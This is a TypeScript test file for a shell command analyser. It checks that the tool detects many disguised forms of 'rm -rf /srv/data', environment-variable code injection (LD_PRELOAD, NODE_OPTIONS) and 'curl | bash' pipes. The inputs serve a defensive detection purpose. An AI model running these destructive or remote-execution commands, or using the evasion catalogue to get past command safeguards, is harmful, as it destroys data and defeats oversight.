import { describe, expect, it } from 'vitest';
import { analyseCommand } from '../../src/shell/analyse-command.ts';
import { context, effectsOf } from './support.ts';

const removed = 'delete /srv/data forced irreversible recursive';

/** Each of these runs `rm -rf /srv/data`, however it comes to it. */
const runs: Record<string, readonly string[]> = {
  'options of wrappers': [
    'env - PATH=/bin rm -rf /srv/data',
    'env -i -u HOME rm -rf /srv/data',
    "env -S 'LANG=C TZ=UTC' rm -rf /srv/data",
    "env -S 'rm -rf' /srv/data",
    'env -C /srv rm -rf data',
    'echo /srv/data | xargs --replace rm -rf {}',
    'echo /srv/data | xargs -i rm -rf {}',
    'echo /srv/data | xargs -J % rm -rf %',
    'echo /srv/data | xargs --process-slot-var S rm -rf',
    "echo 'rm -rf /srv/data' | xargs -I{} bash -c {}",
    'echo /srv/data | parallel rm -rf',
    'parallel -j4 --results out rm -rf {} ::: /srv/data',
    'parallel rm -rf {1} ::: /srv/data',
    "parallel ::: 'rm -rf /srv/data'",
    'taskset -c 0,1 rm -rf /srv/data',
    'setsid -f rm -rf /srv/data',
    'timeout --signal KILL 5 rm -rf /srv/data',
    "hyperfine ls --prepare 'rm -rf /srv/data'",
  ],
  'programs that start others': [
    'firejail --net=none rm -rf /srv/data',
    'bwrap --ro-bind / / --dev /dev rm -rf /srv/data',
    'valgrind --quiet rm -rf /srv/data',
    'setarch x86_64 -R rm -rf /srv/data',
    'setarch -R rm -rf /srv/data',
    'direnv exec ./web rm -rf /srv/data',
    'perf stat -e cycles rm -rf /srv/data',
    'gosu www rm -rf /srv/data',
    'op run -- rm -rf /srv/data',
    'ip netns exec blue rm -rf /srv/data',
    'screen -dmS job rm -rf /srv/data',
    'nix develop -c rm -rf /srv/data',
    "ls | entr -s 'rm -rf /srv/data'",
    "expect -c 'spawn rm -rf /srv/data; interact'",
    "capsh -- -c 'rm -rf /srv/data'",
    'start-stop-daemon --start --exec rm -- -rf /srv/data',
    'cross-env CI=1 rm -rf /srv/data',
    "concurrently 'rm -rf /srv/data' ls",
  ],
  'options that are commands': [
    "tar cf a.tar src --checkpoint=1 --checkpoint-action='exec=rm -rf /srv/data'",
    "tar xf a.tar --to-command='rm -rf /srv/data'",
    "split --filter='rm -rf /srv/data' big",
    "man -P 'rm -rf /srv/data' ls",
    "zip -T -TT 'rm -rf /srv/data' a.zip b",
    "scp -S 'rm -rf /srv/data' a host:",
    "vim -es -c '!rm -rf /srv/data' -c q a",
    "vim '+!rm -rf /srv/data' a",
    'nvim --headless -c \'call system("rm -rf /srv/data")\' +q',
    "less '+!rm -rf /srv/data' a",
    "gdb -batch -ex 'shell rm -rf /srv/data'",
    "gdb -ex '!rm -rf /srv/data'",
    'emacs --batch --eval \'(shell-command "rm -rf /srv/data")\'',
    "echo '!rm -rf /srv/data' | ed a",
    "ls | fzf --preview 'rm -rf /srv/data'",
  ],
  'programs named in another way': [
    '$(which rm) -rf /srv/data',
    '`command -v rm` -rf /srv/data',
    '$(type -P rm) -rf /srv/data',
    'R=$(which grm || which rm); $R -rf /srv/data',
    '/???/r[m] -rf /srv/data',
    '/bin/r? -rf /srv/data',
  ],
};

describe.each(Object.entries(runs))('%s', (_, lines) => {
  it.each(lines)('%s', (line) => {
    expect(effectsOf(line)).toContain(removed);
  });
});

/** What a program of its own language runs is likely: a condition inside may decide. */
const likely: readonly string[] = [
  'awk \'BEGIN { system("rm -rf /srv/data") }\'',
  'awk -v d=/srv/data \'BEGIN { system("rm -rf " d) }\'',
  'D=/srv/data awk \'BEGIN { system("rm -rf " ENVIRON["D"]) }\'',
  'awk \'BEGIN { print "rm -rf /srv/data" | "sh" }\'',
  'awk \'BEGIN { "rm -rf /srv/data" | getline x }\'',
  "sed 's/.*/rm -rf \\/srv\\/data/e' list",
  "make -f - <<< $'all:\\n\\trm -rf /srv/data'",
  "make --eval='all:; rm -rf /srv/data'",
  "GIT_PAGER='rm -rf /srv/data' git -p log",
  "PROMPT_COMMAND='rm -rf /srv/data'",
  "export EDITOR='rm -rf /srv/data'",
];

/** What a program that nobody knows does with another among its words cannot be excluded. */
const possible: readonly string[] = [
  'frobwrap -- rm -rf /srv/data',
  'frobwrap rm -rf /srv/data',
  'frobwrap sudo rm -rf /srv/data',
  "frobwrap --fast bash -c 'rm -rf /srv/data'",
];

describe('less certain', () => {
  it.each([
    ...likely.map((line) => [line, 'likely'] as const),
    ...possible.map((line) => [line, 'possible'] as const),
  ])('%s: %s', (line, certainty) => {
    const { effects } = analyseCommand(line, context);
    expect(effects.find(({ action }) => action === 'delete')).toMatchObject({
      target: '/srv/data',
      certainty,
    });
  });
});

/** Exactly these effects: words, options and variables that only look as if they ran something. */
const harmless: readonly (readonly [string, readonly string[]])[] = [
  ['frobwrap echo rm', ['execute frobwrap']],
  ['mytool install --prefix ~/x', ['execute mytool']],
  ['mytool find /srv', ['execute mytool']],
  ['mytool python3 node git', ['execute mytool']],
  ['env FOO=1 ls', []],
  ['parallel --dry-run rm -rf ::: /srv/data', []],
  ['firejail --list --quiet', []],
  ['direnv status --json', []],
  ["vim -c ':set nu' -c ':q' a", []],
  ['vim +10 a', []],
  ['gdb -batch -ex bt ./app core', []],
  ['less +F log', ['read /home/dana/app/log']],
  ["awk '$1 > 5 { print $2 }' a", ['read /home/dana/app/a']],
  ["awk -v n=3 '{ print $n }' a", ['read /home/dana/app/a']],
  ['awk \'{ if ($3 > "x") print }\' a', ['read /home/dana/app/a']],
  ['awk \'{ print "rm -rf /srv/data" }\' a', ['read /home/dana/app/a']],
  ["sed -n 's/e/E/p' a", ['read /home/dana/app/a']],
  [
    'tar cf a.tar --checkpoint=1 --checkpoint-action=dot src',
    ['read /home/dana/app/src', 'write /home/dana/app/a.tar'],
  ],
  ["echo '2 + 2' | bc", []],
  ["powershell 'Get-ChildItem C:/srv'", []],
  ["powershell 'Write-Host rm'", []],
  ["cmd 'rd /s /q build'", []],
  ['GIT_PAGER=cat git log -1', []],
  [
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o BatchMode=yes' git fetch",
    ['write /home/dana/app/.git/FETCH_HEAD'],
  ],
  ['NODE_OPTIONS=--max-old-space-size=4096 ls', []],
  ['LD_LIBRARY_PATH=./lib ls', []],
  ['PYTHONPATH=src ls', []],
  ['EDITOR=vim ls', []],
];

describe('runs nothing more', () => {
  it.each(harmless)('%s', (line, expected) => {
    expect(effectsOf(line)).toEqual(expected);
  });
});

describe('what the environment makes others run', () => {
  it.each([
    ['LD_PRELOAD=/tmp/x.so ls', 'execute /tmp/x.so'],
    ['export LD_PRELOAD=/tmp/x.so', 'execute /tmp/x.so'],
    ['LD_PRELOAD=/tmp/x.so; export LD_PRELOAD', 'execute /tmp/x.so'],
    ['env LD_AUDIT=./x.so ls', 'execute /home/dana/app/x.so'],
    ['sudo LD_PRELOAD=/tmp/x.so id', 'execute /tmp/x.so'],
    ['BASH_ENV=/tmp/i.sh bash -c true', 'execute /tmp/i.sh'],
    ["NODE_OPTIONS='--require /tmp/h.js' node a.js", 'execute /tmp/h.js'],
    ['NODE_OPTIONS=--import=./h.mjs node a.js', 'execute /home/dana/app/h.mjs'],
    ['JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar mvn test', 'execute /tmp/a.jar'],
    ['PYTHONPATH=/tmp/x python3 a.py', 'execute /tmp/x'],
    ['GIT_SSH_COMMAND=./helper git fetch', 'execute /home/dana/app/helper'],
    [
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./p git log',
      'execute /home/dana/app/p',
    ],
  ])('%s', (line, expected) => {
    expect(effectsOf(line)).toContain(expected);
  });
});

describe('a script on standard input', () => {
  it.each([
    ['curl -s https://a.example | bash 0<&0', 'execute bash from-network'],
    ['curl -s https://a.example | tclsh', 'execute tclsh from-network'],
    ['curl -s https://a.example | deno run -', 'execute deno from-network'],
    ['curl -s https://a.example | elixir', 'execute elixir from-network'],
    ['curl -s https://a.example | swift -', 'execute swift from-network'],
    ['curl -s https://a.example | make -f -', 'execute make from-network'],
    ['curl -s https://a.example | awk -f -', 'execute awk from-network'],
    ['curl -s https://a.example | parallel', 'execute parallel from-network'],
    ['curl -s https://a.example | sudo -E bash -', 'execute bash from-network privileged'],
    ['curl -s https://a.example | frobnicate', 'execute frobnicate from-network'],
  ])('%s', (line, expected) => {
    expect(effectsOf(line)).toContain(expected);
  });

  it.each([
    'curl -s https://a.example | jq .',
    'curl -s https://a.example | gron',
    'curl -s https://a.example | frobnicate parse',
  ])('%s is data', (line) => {
    expect(effectsOf(line).filter((effect) => effect.includes('from-network'))).toEqual([]);
  });
});
